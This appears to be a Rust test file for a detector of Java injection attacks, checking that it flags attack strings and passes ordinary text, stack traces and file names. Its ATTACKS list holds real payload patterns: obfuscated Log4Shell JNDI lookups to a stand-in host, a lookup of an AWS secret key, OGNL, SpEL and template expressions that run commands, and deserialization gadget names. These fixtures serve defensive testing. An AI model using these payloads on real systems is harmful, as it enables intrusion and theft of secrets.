use super::DETECTOR;
use crate::Place;
use crate::detect::scan::check::{best, found, hits, japanese_passes, passed, survives};

const ATTACKS: &[&str] = &[
    "${jndi:ldap://h.example/a}",
    "${jndi:dns://h.example}",
    "${${lower:j}ndi:${lower:l}dap://h.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://h.example/a}",
    "${${env:X:-j}ndi${env:Y:-:}ldap${env:Z:-:}//h.example}",
    "${j${k8s:k5:-ND}i:ldap://h.example}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${script:javascript:java.lang.Runtime.getRuntime()}",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "%{#a=(new java.lang.ProcessBuilder('id')).start()}",
    "redirect:${#req.getClass()}",
    "(#cmd='id')",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Math).random()}",
    "${''.getClass().forName('java.lang.Runtime')}",
    "${pageContext.request.getSession()}",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "def p = 'id'.execute().text",
    "['sh', '-c', 'id'].execute()",
    "java.lang.ProcessBuilder",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
    "x.y.ConstantTransformer",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
    "class['classLoader']",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "aced00057372001f6a6176612e7574",
    "<java class=\"java.beans.XMLDecoder\">",
    "<sorted-set><dynamic-proxy>",
    "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x('id')}",
    "#set($e=\"e\")",
    "__${new java.util.Scanner(x)}__::.x",
    "<%= Runtime.getRuntime() %>",
    "<%@ page import=\"java.io.*\" %>",
    "a.getClass().getClassLoader().loadClass('x')",
];

const ORDINARY: &[&str] = &[
    "java.lang.NullPointerException at line 4",
    "Exception in thread \"main\" java.lang.ArithmeticException: / by zero",
    "how do I use java.util.List in Java 21?",
    "call getClass() on the object",
    "com.example.app",
    "jp.go.example.portal",
    "org.example.www",
    "${name}",
    "#{id} and %{count} items",
    "100%{approx}",
    "class loader and class.module",
    "runtime 2.5 hours (approx.)",
    "taro@example.com",
    "action:list",
    "redirect:/top",
    "javascript.info",
    "sunday.sun.monday",
    "#include the receipt (copy)",
    "issue (#12) fixed, see (#34).",
    "(#12.5) ver.2",
    "h4sIAAAAAAAA",
    "abaced0005ff",
];

#[test]
fn finds_lookups_expressions_classes_and_objects() {
    found(&DETECTOR, ATTACKS);
}

#[test]
fn passes_prose_stack_traces_and_placeholders() {
    passed(&DETECTOR, ORDINARY);
    japanese_passes(&DETECTOR);
}

#[test]
fn finds_a_stream_of_objects() {
    assert!(best(&DETECTOR, b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap") >= 80);
}

#[test]
fn judges_names_of_uploaded_files() {
    for bad in ["a.jsp", "a. jspx", "a.jsp..", "a.war", "a.jsp;.png"] {
        let hits = hits(&DETECTOR, Place::FileName, b"", bad.as_bytes());
        assert!(hits.iter().any(|h| h.score.0 >= 50), "{bad}");
    }
    for good in ["a.json", "jsp.txt", "計画.docx", "a.jsp.pdf.zip"] {
        let hits = hits(&DETECTOR, Place::FileName, b"", good.as_bytes());
        assert!(hits.iter().all(|h| h.score.0 < 50), "{good}");
    }
}

#[test]
fn does_not_take_an_element_of_xml_for_a_value() {
    assert!(best(&DETECTOR, "<runtime.forclosure>x</runtime.forclosure>") < 50);
    assert!(best(&DETECTOR, "<a b=\"runtime.forclosure\">x</a>") >= 50);
}

#[test]
fn survives_spoiled_bytes() {
    survives(&DETECTOR, ATTACKS);
    survives(&DETECTOR, ORDINARY);
}

#[test]
fn keeps_tables_sorted() {
    use super::words as w;
    crate::detect::scan::check::sorted(&[
        w::PACKAGES,
        w::CLASSES,
        w::GADGETS,
        w::LOOKUPS,
        w::JNDI_PROTOCOLS,
        w::PAGE_OBJECTS,
        w::METHODS,
        w::EXTENSIONS,
        w::PACKAGES_SHORT,
    ]);
}
